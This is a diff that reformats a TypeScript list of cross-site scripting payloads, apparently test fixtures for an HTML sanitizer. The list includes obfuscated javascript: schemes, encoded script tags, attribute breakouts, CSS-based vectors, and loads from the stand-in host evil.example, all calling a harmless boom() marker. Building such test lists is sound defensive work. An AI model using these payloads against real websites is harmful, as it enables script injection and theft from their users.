@@ -20,14 +20,36 @@ const handlers = each(
 /** Ways to write the scheme that a filter may not recognise and a browser may. */
 const schemes = [
   ...['javascript:boom()', 'JavaScript:boom()', 'JAVASCRIPT:boom()', ' javascript:boom()', '\tjavascript:boom()'],
-  ...['java\tscript:boom()', 'java\nscript:boom()', 'java\rscript:boom()', '\u0001javascript:boom()', '\0javascript:boom()'],
+  ...[
+    'java\tscript:boom()',
+    'java\nscript:boom()',
+    'java\rscript:boom()',
+    '\u0001javascript:boom()',
+    '\0javascript:boom()',
+  ],
   ...['java&Tab;script:boom()', 'javascript&colon;boom()', '&#106;avascript:boom()', '&#x6A;avascript:boom()'],
-  ...['&#0000106avascript:boom()', 'javascript&#58;boom()', 'javascript&#x3a;boom()', 'javascript://x.example/%0aboom()'],
+  ...[
+    '&#0000106avascript:boom()',
+    'javascript&#58;boom()',
+    'javascript&#x3a;boom()',
+    'javascript://x.example/%0aboom()',
+  ],
   ...['javascript:/*x*/boom()', 'javascript:void(boom())', 'feed:javascript:boom()', 'view-source:javascript:boom()'],
   ...['vbscript:boom()', 'livescript:boom()', 'mocha:boom()', 'jar:javascript:boom()', 'ｊavascript:boom()'],
   ...['data:text/html,<script>boom()</script>', 'data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4='],
-  ...['data:image/svg+xml,<svg onload=boom()>', 'data:application/xhtml+xml,<x/>', 'blob:null/boom', 'filesystem:x/boom'],
-  ...['//evil.example/boom.js', '\\\\evil.example\\boom', 'http://evil.example/', 'file:///boom', 'intent://boom#Intent;end'],
+  ...[
+    'data:image/svg+xml,<svg onload=boom()>',
+    'data:application/xhtml+xml,<x/>',
+    'blob:null/boom',
+    'filesystem:x/boom',
+  ],
+  ...[
+    '//evil.example/boom.js',
+    '\\\\evil.example\\boom',
+    'http://evil.example/',
+    'file:///boom',
+    'intent://boom#Intent;end',
+  ],
 ];
 const schemesInPlaces = each(
   [
@@ -47,7 +69,10 @@ const scripts = [
   ...['</script><script>boom()</script>', '<script><!--<script></script>--></script><script>boom()</script>'],
   ...['<noscript><p title="</noscript><script>boom()</script>">', '<template><script>boom()</script></template>'],
   ...['<iframe srcdoc="<script>boom()</script>">', '<iframe srcdoc=&lt;script&gt;boom()&lt;/script&gt;>'],
-  ...['<object type=text/html data="data:text/html,<script>boom()</script>"></object>', '<embed src=//evil.example/x.swf>'],
+  ...[
+    '<object type=text/html data="data:text/html,<script>boom()</script>"></object>',
+    '<embed src=//evil.example/x.swf>',
+  ],
   ...['<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=javascript:boom()">'],
   ...['<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=//evil.example>', '<portal src=x>'],
 ];
@@ -90,7 +115,23 @@ const mutations = [
 
 /** Texts that break out of an attribute, a comment, a program or a style, wherever somebody pastes them in. */
 const escapes = each(
-  ['"', "'", '`', '">', "'>", '-->', '</style>', '</script>', '</title>', '</textarea>', ']]>', '\\"', '"/>', '{{', '${'],
+  [
+    '"',
+    "'",
+    '`',
+    '">',
+    "'>",
+    '-->',
+    '</style>',
+    '</script>',
+    '</title>',
+    '</textarea>',
+    ']]>',
+    '\\"',
+    '"/>',
+    '{{',
+    '${',
+  ],
   ['<img src=x onerror=boom()>', ' onfocus=boom() autofocus x=', ';boom()//', '<svg onload=boom()>'],
   (end, then) => `${end}${then}`,
 );
@@ -99,18 +140,33 @@ const encodings = [
   ...['&lt;script&gt;boom()&lt;/script&gt;', '&amp;lt;script&amp;gt;boom()', '%3Cscript%3Eboom()%3C/script%3E'],
   ...['\\u003cscript\\u003eboom()', '\\x3cscript\\x3eboom()', '+ADw-script+AD4-boom()+ADw-/script+AD4-'],
   ...['＜script＞boom()＜/script＞', '‹script›boom()', '<\0script>boom()</script>', '<scr\0ipt>boom()</script>'],
-  ...['\ufeff<script>boom()</script>', '\u2028<script>boom()</script>', '<ſcript>boom()</ſcript>', '<img/src=x/onerror=boom()>'],
+  ...[
+    '\ufeff<script>boom()</script>',
+    '\u2028<script>boom()</script>',
+    '<ſcript>boom()</ſcript>',
+    '<img/src=x/onerror=boom()>',
+  ],
   ...['<img\fsrc=x\fonerror=boom()>', '<img src=x onerror\x0b=boom()>', '<img src=x:x onerror=&#98;oom()>'],
-  ...['<img src=x onerror="&#x62;&#x6f;&#x6f;&#x6d;()">', '¼script¾boom()¼/script¾', '<%<!--\'%><script>boom()</script>-->'],
+  ...[
+    '<img src=x onerror="&#x62;&#x6f;&#x6f;&#x6d;()">',
+    '¼script¾boom()¼/script¾',
+    "<%<!--'%><script>boom()</script>-->",
+  ],
 ];
 
 const styles = [
   ...['<div style="background:url(javascript:boom())">x</div>', '<div style="width:expression(boom())">x</div>'],
   ...['<div style="behavior:url(#default#x)">x</div>', '<div style="-moz-binding:url(//evil.example/x#y)">x</div>'],
-  ...['<div style="b\\61ckground:url(//evil.example)">x</div>', '<p style="font-family:\'x;}*{x:url(//evil.example)}\'">x</p>'],
+  ...[
+    '<div style="b\\61ckground:url(//evil.example)">x</div>',
+    '<p style="font-family:\'x;}*{x:url(//evil.example)}\'">x</p>',
+  ],
   ...['<style>@import"javascript:boom()";</style>', '<style>*{background:url(//evil.example)}</style>'],
   ...['<div style="position:fixed;inset:0;z-index:9999">x</div>', '<style onload=boom()></style>'],
-  ...['<img style="content:url(data:image/svg+xml,<svg/onload=boom()>)">', '<x style="animation:a" onanimationend=boom()>'],
+  ...[
+    '<img style="content:url(data:image/svg+xml,<svg/onload=boom()>)">',
+    '<x style="animation:a" onanimationend=boom()>',
+  ],
 ];
 
 export const xssPayloads: readonly string[] = [
